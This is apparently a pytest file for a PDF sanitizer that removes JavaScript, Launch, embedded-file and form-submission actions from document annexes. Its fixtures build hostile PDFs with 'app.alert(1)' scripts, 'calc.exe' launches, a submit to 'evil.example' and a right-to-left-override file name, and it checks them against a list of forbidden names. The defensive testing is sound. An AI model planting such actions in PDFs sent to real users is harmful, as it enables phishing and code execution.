"""Active content: every kind is taken out of an annex and named; plain links, outline and fields stay."""

from __future__ import annotations

import io

import pikepdf
import pytest
from conftest import CORPUS
from hostile import (
    EXPECTED_DISGUISED_REMOVAL,
    EXPECTED_REMOVAL,
    active_content_pdf,
    disguised_active_content_pdf,
    forbidden_names,
)
from pikepdf import Array, Dictionary, Name, String

from kcvs_pdf.annexes.sanitize import remove_active_content


def saved_and_reopened(pdf: pikepdf.Pdf) -> pikepdf.Pdf:
    output = io.BytesIO()
    pdf.save(output)
    return pikepdf.open(output)


@pytest.fixture
def cleaned(tmp_path):
    pdf = pikepdf.open(active_content_pdf(tmp_path / "hostile.pdf"))
    removed = remove_active_content(pdf)
    return removed, saved_and_reopened(pdf)


def test_every_kind_of_active_content_is_named_and_counted(cleaned):
    removed, _ = cleaned
    assert removed == EXPECTED_REMOVAL


def test_nothing_active_is_left_in_any_object(tmp_path, cleaned):
    with pikepdf.open(active_content_pdf(tmp_path / "before.pdf")) as before:
        assert forbidden_names(before) >= {"/JS", "/Launch", "/EmbeddedFiles", "/FileAttachment", "/GoToR"}
    assert forbidden_names(cleaned[1]) == set()


def test_plain_links_outline_and_form_fields_stay(cleaned):
    _, pdf = cleaned
    actions = [annotation.get("/A") for annotation in pdf.pages[0].Annots
               if annotation.Subtype == Name.Link]
    kept = [(str(a.S), str(a.get("/URI", ""))) for a in actions if a is not None]
    assert kept == [("/URI", "https://www.example.org/"), ("/GoTo", ""), ("/URI", "https://www.example.org/")]
    goto = actions[1]
    assert goto.D[0].objgen == pdf.pages[1].obj.objgen
    assert [str(a.S) for a in goto.Next] == ["/URI"]  # the mailto: link after the removed script
    subtypes = [str(annotation.Subtype) for annotation in pdf.pages[0].Annots]
    assert subtypes.count("/Link") == 9 and "/Widget" in subtypes and "/Popup" not in subtypes
    assert [str(field.T) for field in pdf.Root.AcroForm.Fields] == ["naam"]
    with pdf.open_outline() as outline:
        assert [item.title for item in outline.root] == ["Tweede pagina", "Script"]
        assert outline.root[0].destination is not None and outline.root[1].action is None


def test_a_file_without_active_content_is_left_alone(tmp_path):
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.pages[0].Annots = Array([pdf.make_indirect(Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 10, 10],
        A=Dictionary(S=Name.URI, URI=String("mailto:info@example.org"))))])
    assert remove_active_content(pdf) == ""
    assert pdf.pages[0].Annots[0].A.URI == "mailto:info@example.org"


def test_embedded_file_of_the_corpus_is_named(tmp_path):
    if not (CORPUS / "embedded-file-attachment.pdf").is_file():
        pytest.skip("embedded-file-attachment.pdf is only in ../shared/annex-corpus/")
    pdf = pikepdf.open(CORPUS / "embedded-file-attachment.pdf")
    assert remove_active_content(pdf) == "the embedded file 'image.png'"
    assert len(saved_and_reopened(pdf).attachments) == 0


def test_a_file_name_is_shown_without_control_or_direction_characters():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.attachments["x"] = pikepdf.AttachedFileSpec(pdf, b"x", filename="rapport\u202egpj.exe\n" + "a" * 80)
    removed = remove_active_content(pdf)
    assert removed.startswith("the embedded file 'rapport?gpj.exe?aaa") and removed.endswith("a…'")
    assert "\u202e" not in removed and "\n" not in removed


def test_a_removed_annotation_leaves_no_reference_in_the_structure_tree():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    attachment = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment,
                                              Rect=[0, 0, 10, 10], StructParent=0,
                                              FS=Dictionary(Type=Name.Filespec, F=String("a.txt"))))
    pdf.pages[0].Annots = Array([attachment])
    element = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Annot, K=Array([
        Dictionary(Type=Name.OBJR, Obj=attachment, Pg=pdf.pages[0].obj)])))
    pdf.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=element)
    assert remove_active_content(pdf) == "the embedded file 'a.txt'"
    reopened = saved_and_reopened(pdf)
    assert list(reopened.Root.StructTreeRoot.K.K) == []
    assert "/Annots" not in reopened.pages[0] or len(reopened.pages[0].Annots) == 0
    assert forbidden_names(reopened) == set()


def test_active_content_in_disguise_is_found_too(tmp_path):
    pdf = pikepdf.open(disguised_active_content_pdf(tmp_path / "disguised.pdf"))
    assert remove_active_content(pdf) == EXPECTED_DISGUISED_REMOVAL
    cleaned = saved_and_reopened(pdf)
    assert forbidden_names(cleaned) == set()
    annotations = cleaned.pages[0].Annots
    assert [str(a.Subtype) for a in annotations] == ["/Widget", "/Link", "/Link", "/Link"]
    assert str(annotations[3].A.URI) == "https://www.example.org/"
    assert str(cleaned.Root.AcroForm.Fields[0].T) == "bedrag"


def test_an_action_where_no_viewer_looks_for_one_is_removed_too(tmp_path):
    pdf = pikepdf.new()
    pdf.add_blank_page()
    page = pdf.pages[0].obj
    page.Extra = Dictionary(S=Name.Launch, F=String("calc.exe"))
    # A structure element has /S too, and a parent: it is no action.
    page.Element = Dictionary(Type=Name.StructElem, S=Name.Sound, P=pdf.Root)
    assert remove_active_content(pdf) == "1 Launch action"
    cleaned = saved_and_reopened(pdf)
    assert "/Extra" not in cleaned.pages[0].obj and cleaned.pages[0].obj.Element.S == Name.Sound


def test_active_content_is_found_however_deep_in_arrays_and_stream_dictionaries_it_is():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    script = Dictionary(A=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    launch = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]),
                        Next=Dictionary(S=Name.Launch, F=String("calc.exe")))
    stream = pdf.make_stream(b"", Extra=Array([1, Name.X, String("x"), Array([2.5, Array([script])])]))
    pdf.pages[0].obj.Deep = Array([None, stream, Array([launch])])
    # Some viewers read a stream's dictionary like any other: as an action, in a key none reads.
    pdf.pages[0].obj.Odd = pdf.make_stream(b"", S=Name.SubmitForm, F=String("https://evil.example/"))
    assert remove_active_content(pdf) == "1 JavaScript action, 1 Launch action and 1 form submission"
    cleaned = saved_and_reopened(pdf)
    assert forbidden_names(cleaned) == set() and "/Odd" not in cleaned.pages[0].obj
    assert [str(item.S) for item in cleaned.pages[0].obj.Deep[2]] == ["/GoTo"]
